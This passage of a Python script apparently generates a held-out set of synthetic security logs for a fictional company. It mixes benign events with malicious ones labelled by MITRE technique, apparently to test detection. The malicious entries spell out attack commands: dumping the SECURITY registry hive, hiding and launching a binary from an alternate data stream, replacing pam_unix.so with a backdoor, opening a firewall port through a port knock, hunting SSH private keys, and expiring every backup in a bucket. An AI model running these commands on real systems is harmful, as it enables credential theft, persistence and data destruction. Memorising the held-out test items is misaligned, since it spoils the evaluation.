B(S, okta(T(24, 12, 0, 0), "user.authentication.sso", "l.brennan@ravenmoor.eu", "86.131.44.33", targets=[tgt("AppInstance", "GitLab")], wrap="fluentbit"), "SSO to GitLab")
# ---------------------------------------------------------------- benign top-ups (ordinary noise, later in the week)
S = "windows-security"
B(S, ecs_win(4624, "RVM-FS-01.rvm.internal", T(26, 8, 30, 2, 5), {"TargetUserName": "f.osei", "TargetDomainName": "RVM", "LogonType": "3", "LogonProcessName": "Kerberos",
  "AuthenticationPackageName": "Kerberos", "IpAddress": "10.212.33.71", "IpPort": "50410", "WorkstationName": "-"}, "logged-in", rec=3390011), "Kerberos network logon to the file share")
B(S, winxml(4625, "RVM-SQL-07.rvm.internal", T(26, 8, 41, 0, 3), {"TargetUserName": "svc_sqlagent", "TargetDomainName": "RVM", "Status": "0xc000006e", "SubStatus": "0xc0000072",
  "LogonType": "5", "LogonProcessName": "Advapi  ", "AuthenticationPackageName": "Negotiate", "IpAddress": "-", "IpPort": "-", "ProcessName": "C:\\Windows\\System32\\services.exe"}, 1930200, task=12544, kw="0x8010000000000000"),
  "single service-start failure: the SQL Agent account was disabled minutes before it was re-enabled under CHG-21160")
B(S, splunk_win(T(26, 9, 0, 0), 4688, "RVM-LAP-1187.rvm.internal", 230011, "Process Creation",
  "A new process has been created.  Creator Subject: Security ID: RVM\\w.lindqvist Account Name: w.lindqvist Account Domain: RVM Logon ID: 0x3E12AB4  Process Information: New Process ID: 0x2b10 New Process Name: C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE Token Elevation Type: %%1938 Creator Process Name: C:\\Windows\\explorer.exe Process Command Line: \"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"\\\\RVM-FS-01\\Finance\\2026\\Q4\\accruals-nov.xlsx\""),
  "user opening a spreadsheet from the share")
B(S, nxlog(T(26, 9, 10, 0), DC, 4769, 5600121, {"TargetUserName": "svc_sqlrpt@RVM.INTERNAL", "ServiceName": "RVM-SQL-07$", "TicketEncryptionType": "0x12", "Status": "0x0", "IpAddress": "::ffff:10.212.40.71", "TicketOptions": "0x40810000"},
  "A Kerberos service ticket was requested.", task=14337), "service account requesting an AES ticket for its own SQL host")
B(S, snare(T(26, 9, 20, 0), "RVMDC3", "Security", 5600200, 4768, "Microsoft-Windows-Security-Auditing", "N/A", "N/A", "Success Audit", "Kerberos Authentication Service",
  "A Kerberos authentication ticket (TGT) was requested.    Account Information:   Account Name:  b.tanaka   Supplied Realm Name: RVM.INTERNAL    Service Information:   Service Name:  krbtgt    Network Information:   Client Address:  ::ffff:10.212.31.90    Additional Information:   Ticket Options:  0x40810010   Result Code:  0x0   Ticket Encryption Type: 0x12   Pre-Authentication Type: 2"),
  "new hire's first TGT")
B(S, winxml(4738, DC, T(26, 9, 30, 0, 1), {"TargetUserName": "b.tanaka", "TargetDomainName": "RVM", "SubjectUserName": "svc_sailpoint_prov", "SubjectDomainName": "RVM", "UserAccountControl": "-",
  "OldUacValue": "0x10", "NewUacValue": "0x10", "ProfilePath": "-", "DisplayName": "Ben Tanaka"}, 77190001, task=13824), "provisioning account setting a display name")
B(S, ecs_win(4672, DC, T(26, 9, 31, 0), {"SubjectUserName": "RVMDC4$", "SubjectDomainName": "RVM", "PrivilegeList": "SeSecurityPrivilege SeBackupPrivilege SeRestorePrivilege SeDebugPrivilege SeEnableDelegationPrivilege"},
  "logged-in-special", rec=77190010), "partner DC's computer account logon with special privileges")
S = "vpn"
B(S, ovpn(T(26, 8, 0, 0), "86.131.44.140:50221 TLS: Username/Password authentication succeeded for username 'm.castellanos'"), "staff OpenVPN login from the UK")
B(S, ovpn(T(26, 8, 0, 2), "m.castellanos/86.131.44.140:50221 MULTI_sva: pool returned IPv4=10.212.202.51, IPv6=(Not enabled)"), "pool address")
B(S, gp(T(26, 8, 10, 0), "gateway-hip-report", "i.kovacs", "86.131.44.160", "success", "HIP report received: host compliant", stage="hip", extra="Windows,RVM-LAP-1502,6.2.4,GB"), "HIP compliance report")
B(S, fsv(T(26, 8, 20, 0), level="\"information\"", logdesc="\"SSL VPN tunnel up\"", action="\"tunnel-up\"", tunneltype="\"ssl-tunnel\"", remip="92.40.176.30", tunnelip="10.212.200.44", user="\"y.adeyemi\"", group="\"SSLVPN-Users\"", msg="\"SSL tunnel established\""),
  "staff SSL-VPN from a mobile network")
B(S, anyc(T(26, 8, 30, 0), "6-716001", "Group <RVM-Staff> User <o.brandvold> IP <86.131.44.59> WebVPN session started."), "clientless portal session")
B(S, pulse(T(26, 8, 40, 0), "AUT22670", "Login succeeded for v.romano/RVM-Users from 92.40.176.61.", user="v.romano", ip="92.40.176.61"), "ICS login")
B(S, zs(T(26, 8, 50, 0), Username="o.brandvold@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="86.131.44.59", ClientCountryCode="GB", Platform="windows", Version="4.5.0.286",
  Hostname="RVM-LAP-1210", Application="tms.rvm.internal", ServerPort=443, Policy="All-Staff-Apps", ConnectionStatus="open"), "managed laptop to the TMS")
S = "auditd"
B(S, aud(T(26, 8, 0, 0), "USER_START", "pid=7100 uid=0 auid=1221 ses=40 subj=unconfined msg='op=PAM:session_open grantors=pam_selinux,pam_loginuid,pam_keyinit,pam_unix acct=\"b.tanaka\" exe=\"/usr/sbin/sshd\" hostname=10.212.31.90 addr=10.212.31.90 terminal=ssh res=success'", "UID=\"root\" AUID=\"b.tanaka\""),
  "new team member's first SSH session")
ex_pair(T(26, 8, 5, 0), ["git", "pull", "--ff-only"], "engineer updating a checkout", None, "/usr/bin/git", uid=1221, auid=1221, aname="b.tanaka", uname="b.tanaka", mal=False, with_sc=False)
ex_pair(T(26, 8, 10, 0), ["/usr/bin/journalctl", "-u", "tms-app", "--since", "-1h"], "reading service logs", None, "/usr/bin/journalctl", uid=1221, auid=1221, aname="b.tanaka", uname="b.tanaka", mal=False, with_sc=False)
B(S, aud(T(26, 8, 20, 0), "CRED_DISP", "pid=7100 uid=0 auid=1221 ses=40 subj=unconfined msg='op=PAM:setcred grantors=pam_unix acct=\"b.tanaka\" exe=\"/usr/sbin/sshd\" hostname=10.212.31.90 addr=10.212.31.90 terminal=ssh res=success'", "UID=\"root\" AUID=\"b.tanaka\""),
  "session credentials disposed at logout")
S = "powershell"
B(S, sb_ecs(C4, T(26, 9, 0, 0), "Get-ChildItem -Path $env:USERPROFILE\\Downloads -Filter *.msi | Sort-Object LastWriteTime | Select-Object -Last 3", "{1a0b2c3d-4e5f-4a6b-9c7d-8e9f0a1b2c3e}", "w.lindqvist", level="verbose"),
  "user looking for an installer she downloaded")
B(S, sb(C3, T(26, 9, 5, 0), 90400, "Get-Service -Name Veeam* | Where-Object Status -ne 'Running' | Start-Service -PassThru", "{2b1c3d4e-5f6a-4b7c-8d9e-0f1a2b3c4d5f}", user_sid="S-1-5-21-3308419210-1822710947-255119034-2210", level=5),
  "admin restarting stopped Veeam services after recovery")
S = "firewall"
B(S, cef(T(26, 9, 0, 0), "Sophos", "XG Firewall", "20.0", "0000010201", "Web Filter", "2", "act=allow src=10.212.31.90 dst=151.101.1.69 dpt=443 app=HTTPS suser=b.tanaka cs2Label=policy cs2=Internet_Out request=https://pypi.org/simple/requests/"), "pip install from PyPI")
B(S, forti(T(26, 9, 10, 0), logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", level="\"notice\"", srcip="10.212.31.90", srcport="51900", srcintf="\"lan\"", dstip="10.212.0.10", dstport="53", dstintf="\"servers\"", proto="17", action="\"accept\"", policyid="4", service="\"DNS\"", sentbyte="74", rcvdbyte="132"),
  "internal DNS query")
B(S, asa(T(26, 9, 20, 0), "6-302015", "Built outbound UDP connection 1010221 for outside:162.159.200.123/123 (162.159.200.123/123) to inside:10.212.0.10/123 (86.131.44.151/123)"), "NTP from the internal time server")
S = "okta"
B(S, okta(T(26, 8, 0, 0), "user.session.start", "b.tanaka@ravenmoor.eu", "86.131.44.144"), "new hire sign-in from the office")
B(S, okta(T(26, 8, 0, 10), "user.authentication.sso", "b.tanaka@ravenmoor.eu", "86.131.44.144", targets=[tgt("AppInstance", "AWS IAM Identity Center")]), "SSO to AWS he was provisioned for")
S = "linux-syslog"
B(S, r3164(T(26, 7, 0, 0), H2, "systemd[1]", "Started auditd.service - Security Auditing Service."), "auditd restarted by the recovery playbook")
# ---------------------------------------------------------------- later additions: rarer techniques, and more benign noise
S = "windows-security"
M(S, winxml(4742, DC, T(26, 1, 20, 5, 3), {"ComputerAccountChange": "-", "TargetUserName": "RVM-LAP-1320$", "TargetDomainName": "RVM", "SubjectUserName": "k.haddad", "SubjectDomainName": "RVM",
  "ServicePrincipalNames": "GC/RVM-LAP-1320.rvm.internal/rvm.internal E3514235-4B06-11D1-AB04-00C04FC2DCD2/7c1f0a2b-3d4e-4f50-8a61-7b8c9d0e1f20/rvm.internal", "DnsHostName": "-", "UserAccountControl": "-"},
  77200011, task=13825), "T1207", "Global Catalog and DRS replication SPNs added to a laptop's computer account - DCShadow rogue domain controller")
M(S, splunk_win(T(26, 1, 25, 0), 4688, "RVM-SQL-07.rvm.internal", 1940022, "Process Creation",
  "A new process has been created.  Creator Subject: Security ID: RVM\\k.haddad Account Name: k.haddad Account Domain: RVM Logon ID: 0x6A1F0E2  Process Information: New Process ID: 0x1d44 New Process Name: C:\\Windows\\System32\\reg.exe Token Elevation Type: %%1937 Creator Process Name: C:\\Windows\\System32\\cmd.exe Process Command Line: reg.exe save hklm\\security C:\\Windows\\Temp\\sec.save"),
  "T1003.004", "SECURITY hive saved to Temp - LSA secrets / cached credentials extraction")
B(S, ecs_win(4624, "RVM-LAP-1502.rvm.internal", T(26, 8, 2, 0), {"TargetUserName": "i.kovacs", "TargetDomainName": "RVM", "LogonType": "11", "LogonProcessName": "User32 ", "AuthenticationPackageName": "Negotiate",
  "IpAddress": "127.0.0.1", "IpPort": "0", "WorkstationName": "RVM-LAP-1502"}, "logged-in", rec=40110), "cached-credential logon on a laptop offline on a train")
B(S, nxlog(T(26, 8, 15, 0), "RVM-FS-01.rvm.internal", 4663, 3391002, {"SubjectUserName": "svc_veeam", "ObjectType": "File", "ObjectName": "D:\\Shares\\HR\\contracts\\2026\\offer-b.tanaka.pdf", "AccessMask": "0x20000", "ProcessName": "C:\\Program Files (x86)\\Veeam\\Backup Transport\\x64\\VeeamAgent.exe"},
  "An attempt was made to access an object.", task=12800), "backup agent reading HR files for the nightly job")
S = "windows-system"
M(S, winxml(1074, "RVM-FS-01.rvm.internal", T(26, 1, 50, 0), {"param1": "C:\\Windows\\system32\\shutdown.exe (RVM-FS-01)", "param2": "RVM-FS-01", "param3": "No title for this reason could be found", "param4": "0x800000ff",
  "param5": "restart", "param6": "", "param7": "RVM\\k.haddad"}, 41990, provider="User32", guid="{b0aa8734-56f7-41cc-b2f4-de228e98b946}", channel="System", task=0, kw="0x8080000000000000", level=4),
  "T1529", "unplanned forced restart of the encrypted file server by the intruder account at 01:50")
B(S, winxml(1074, "RVM-LAP-1502.rvm.internal", T(26, 18, 0, 0), {"param1": "C:\\Windows\\System32\\RuntimeBroker.exe (RVM-LAP-1502)", "param2": "RVM-LAP-1502", "param3": "Other (Unplanned)", "param4": "0x0",
  "param5": "power off", "param6": "", "param7": "RVM\\i.kovacs"}, 40201, provider="User32", guid="{b0aa8734-56f7-41cc-b2f4-de228e98b946}", channel="System", task=0, kw="0x8080000000000000", level=4),
  "user shutting down her laptop from the Start menu")
S = "sysmon"
M(S, sx(1, C2, T(26, 1, 0, 2, 1), proc(C2, None, 60, CMD, "cmd.exe /c type C:\\ProgramData\\Intel\\igfxtray.exe > \"C:\\Windows\\Tasks\\desktop.ini:svc.exe\" && wmic process call create \"C:\\Windows\\Tasks\\desktop.ini:svc.exe\"",
  "RVM\\s.quinlan", PSH, "powershell.exe -w 1", orig="Cmd.Exe"), 620600), "T1564.004", "binary hidden in an alternate data stream of desktop.ini and started from it")
M(S, sx(25, C2, T(26, 1, 2, 0, 5), {"ProcessGuid": guid(61), "ProcessId": "7120", "Image": "C:\\Windows\\System32\\dllhost.exe", "Type": "Image is replaced", "User": "RVM\\s.quinlan"}, 620601, task=25),
  "T1055.012", "Sysmon process tampering: dllhost image replaced in memory - process hollowing")
M(S, secs(C2, T(26, 1, 3, 0, 2), 62, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths @\"C:\\Users\\s.quinlan\\AppData\\Local\\Temp\\k3vq0z1d.cmdline\"",
  "RVM\\s.quinlan", PSH, "powershell.exe -w 1 -nop -c Add-Type -TypeDefinition ([IO.File]::ReadAllText('C:\\ProgramData\\Intel\\l.cs'))", orig="csc.exe"),
  "T1027.004", "hidden PowerShell compiling C# source dropped in ProgramData - compile after delivery")
M(S, secs(C3, T(26, 1, 40, 0, 2), 63, "C:\\Windows\\System32\\powercfg.exe", "powercfg.exe /change standby-timeout-ac 0 & powercfg /change hibernate-timeout-ac 0 & powercfg -h off",
  "RVM\\k.haddad", CMD, "cmd /c", integrity="High", orig="PowerCfg.exe"), "T1653", "sleep and hibernation disabled just before encryption so the host stays up")
B(S, sx(1, C4, T(26, 9, 0, 0, 1), proc(C4, None, 64, "C:\\Windows\\System32\\powercfg.exe", "powercfg /batteryreport /output C:\\Users\\w.lindqvist\\battery.html", "RVM\\w.lindqvist", CMD, "cmd.exe", orig="PowerCfg.exe"), 610500),
  "user producing a battery report for the helpdesk")
B(S, sx(1, C4, T(26, 9, 5, 0, 1), proc(C4, None, 65, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig @\"C:\\Users\\adm-t.okonkwo\\source\\repos\\RvmTools\\obj\\Release\\csc.rsp\"",
  "RVM\\adm-t.okonkwo", "C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\MSBuild.exe", "MSBuild.exe RvmTools.sln /p:Configuration=Release", orig="csc.exe"), 610501),
  "Visual Studio build compiling an internal tool from the user's repos folder")
S = "powershell"
M(S, sb(C2, T(26, 1, 5, 0), 90500, "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct | select displayName,productState; Get-Process | ?{$_.Name -match 'csfalcon|sentinel|cb|MsMpEng|elastic'}",
  "{3c2d4e5f-6a7b-4c8d-9e0f-1a2b3c4d5e60}", user_sid="S-1-5-21-3308419210-1822710947-255119034-5122", level=3),
  "T1518.001", "enumerating installed antivirus and EDR processes")
M(S, sb_ecs(C2, T(26, 1, 6, 0), "Get-ADDefaultDomainPasswordPolicy; Get-ADFineGrainedPasswordPolicy -Filter *; net accounts /domain", "{4d3e5f6a-7b8c-4d9e-8f0a-1b2c3d4e5f61}", "s.quinlan"),
  "T1201", "domain password and lockout policy read before spraying")
B(S, sb_ecs(C3, T(26, 9, 40, 0), "Get-ADDefaultDomainPasswordPolicy | Select MinPasswordLength,LockoutThreshold | Export-Csv \\\\rvm-fs-01\\audit$\\pwpolicy-2026-11.csv -NoTypeInformation", "{5e4f6a7b-8c9d-4e0f-9a1b-2c3d4e5f6a72}", "adm-t.okonkwo", level="verbose"),
  "monthly audit export of the password policy by an admin to the audit share")
S = "linux-syslog"
M(S, r3164(T(26, 1, 10, 0), H3, "snoopy[7001]", "[uid:0 sid:6990 tty:(none) cwd:/tmp filename:/usr/bin/cp]: cp /tmp/.p/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so"),
  "T1556.003", "pam_unix.so overwritten with a file from a hidden tmp dir - PAM backdoor")
M(S, r3164(T(26, 1, 12, 0), H3, "knockd[702]", "80.94.95.14: openSSH: Stage 3"), "T1205.001", "port-knock sequence completed from an outside address on a knockd the team never deployed")
M(S, r3164(T(26, 1, 12, 1), H3, "knockd[702]", "openSSH: running command: /sbin/iptables -I INPUT -s 80.94.95.14 -p tcp --dport 2222 -j ACCEPT"), "T1205.001", "knock opens the backdoor sshd port for the knocker")
M(S, r3164(T(26, 1, 20, 0), "rvm-mon-01", "arpwatch", "changed ethernet address 10.212.40.1 52:54:00:9f:8e:7d (00:0c:29:4a:11:be) eth0"),
  "T1557.002", "gateway address suddenly answering from a VMware MAC - ARP cache poisoning on the server VLAN")
B(S, r3164(T(26, 9, 0, 0), "rvm-mon-01", "arpwatch", "new station 10.212.31.90 3c:22:fb:10:4e:9a eth0"), "new hire's laptop seen on the LAN")
B(S, r5424(T(26, 9, 5, 0, 1), H3, "pam_systemd", 7500, "pam_unix(systemd-user:session): session opened for user b.tanaka(uid=1221) by (uid=0)"), "user manager session")
B(S, jd(T(26, 9, 10, 0), H4, "apt-daily.service", "apt.systemd.daily", 7520, "update lists", comm="apt.systemd.dai"), "apt daily refresh")
S = "linux-auth"
M(S, au(T(26, 2, 0, 0), "rvm-coldstore-gw-04", "sshd[802]", "Accepted password for pi from 80.94.95.14 port 50212 ssh2"),
  "T1078.001", "default 'pi' account of a cold-store sensor gateway logged into from the Internet")
B(S, au(T(26, 9, 20, 0), "rvm-coldstore-gw-04", "sshd[830]", "Accepted publickey for iotops from 10.212.9.4 port 50801 ssh2: ED25519 SHA256:Gh7Jk8Lm9No0Pq1Rs2Tu3Vw4Xy5Za6Bc7De8Fg9Hi0Jk"), "IoT team managing the gateway by key")
B(S, au(T(26, 9, 21, 0), "rvm-coldstore-gw-04", "usermod[840]", "lock user 'pi' password"), "IoT team locking the default account after the incident")
S = "auditd"
ex_pair(T(26, 1, 30, 0), ["find", "/home", "/root", "-name", "id_*", "-not", "-name", "*.pub"], "hunt for SSH private keys in home directories", "T1552.004", "/usr/bin/find", with_sc=False)
ex_pair(T(26, 1, 31, 0), ["mkdir", "-p", "/var/tmp/. /.cache"], "directory named '. ' (dot-space) to hide tooling", "T1564.001", "/usr/bin/mkdir", with_sc=False)
B(S, aud(T(26, 9, 30, 0), "USER_END", "pid=7100 uid=0 auid=1221 ses=40 subj=unconfined msg='op=PAM:session_close grantors=pam_unix acct=\"b.tanaka\" exe=\"/usr/sbin/sshd\" hostname=10.212.31.90 addr=10.212.31.90 terminal=ssh res=success'", "UID=\"root\" AUID=\"b.tanaka\""), "session end")
S = "aws-cloudtrail"
M(S, ct(T(26, 0, 10, 0), "CreateFunction20150331", "lambda.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"),
  {"functionName": "cw-log-shipper", "runtime": "python3.12", "role": f"arn:aws:iam::{ACCT}:role/OrganizationAccountAccessRole", "handler": "index.handler", "timeout": 900}),
  "T1648", "Lambda created with the organisation admin role by the attacker's user - serverless execution with admin rights")
M(S, ct(T(26, 0, 12, 0), "PutBucketLifecycle", "s3.amazonaws.com", BAD, iam_user("aws-backup-svc", "AKIAEXAMPLENEWKEY777"),
  {"bucketName": "rvm-prod-backups", "LifecycleConfiguration": {"Rule": {"ID": "cleanup", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}, "NoncurrentVersionExpiration": {"NoncurrentDays": 1}}}}),
  "T1485.001", "lifecycle rule expiring every object and version in the backup bucket after one day")
B(S, ct(T(26, 9, 0, 0), "PutBucketLifecycle", "s3.amazonaws.com", "10.212.9.4", role("terraform-storage-admin", "tf-run-88201"),
  {"bucketName": "rvm-etl-staging", "LifecycleConfiguration": {"Rule": {"ID": "expire-tmp", "Status": "Enabled", "Filter": {"Prefix": "tmp/"}, "Expiration": {"Days": 7}}}}, ua="APN/1.0 HashiCorp/1.0 Terraform/1.9.8 terraform-provider-aws/5.80.0"),
  "Terraform expiring only the tmp/ prefix of the staging bucket after seven days")
B(S, ct(T(26, 9, 5, 0), "UpdateFunctionCode20150331v2", "lambda.amazonaws.com", "10.212.9.20", role("github-actions-deploy", "gha-edi-512"), {"functionName": "edi-asn-parser", "publish": True},
  ua="aws-sdk-js/3.701.0 ua/2.1 os/linux lang/js md/nodejs#20.18.1"), "CI deploying a new version of an internal Lambda")
S = "firewall"
M(S, cp(T(26, 1, 15, 0), action="Accept", src="10.212.31.88", dst="91.240.118.60", proto="6", s_port="53110", service="587", product="Application Control", appi_name="SMTP", app_category="Email", rule_name="Users-outbound-any", bytes="88120331"),
  "T1071.003", "workstation speaking SMTP submission straight to an external host, 88 MB - mail protocol used for C2/exfil")
B(S, cp(T(26, 9, 15, 0), action="Accept", src="10.212.40.80", dst="52.101.68.12", proto="6", s_port="50112", service="25", product="Application Control", appi_name="SMTP", app_category="Email", rule_name="MailRelay-to-EXO"),
  "the mail relay delivering to Exchange Online")
S = "vpn"
M(S, pulse(T(26, 0, 30, 0), "ADM22670", "Login succeeded for admin/Admin Users from 146.70.87.19.", user="admin", realm="Admin Users", ip="146.70.87.19"),
  "T1078.001", "appliance's built-in 'admin' account logging into the admin realm from the exploit source")
S = "okta"
M(S, okta(T(26, 0, 40, 0), "user.session.access_admin_app", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("AppInstance", "Okta Admin Console")], geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
  "T1538", "hijacked account browsing the Okta admin console from the VPS")
B(S, okta(T(26, 9, 0, 0), "user.session.access_admin_app", "adm-t.okonkwo@ravenmoor.eu", "86.131.44.144", targets=[tgt("AppInstance", "Okta Admin Console")]), "a known admin opening the admin console from the office")
S = "web-access"
B(S, ngx(T(26, 9, 0, 0), "86.131.44.90", "GET /tms/shipments/export.csv?from=2026-11-01&to=2026-11-26 HTTP/2.0", 200, 1202211, ref="https://tms.ravenmoor.eu/tms/reports", ua=CH, rt="1.204", host="tms.ravenmoor.eu"),
  "staff exporting a monthly CSV report")
S = "kubernetes-audit"
B(S, k8(T(26, 9, 0, 0), "get", ADM, ADMG, "secrets", ns="tms-staging", name="tms-web-tls", ips=("10.212.31.77",)), "SRE checking a staging certificate secret")
def main():
    order = []
    for o in OUT:
        if o["source"] not in order:
            order.append(o["source"])
    rows = [o for s in order for o in OUT if o["source"] == s]
    with open(os.path.join(HERE, "seen-heldout-2.jsonl"), "w", encoding="utf-8") as f:
        for o in rows:
            f.write(json.dumps(o, ensure_ascii=False) + "\n")
    print(f"wrote {len(rows)} lines")


if __name__ == "__main__":
    main()
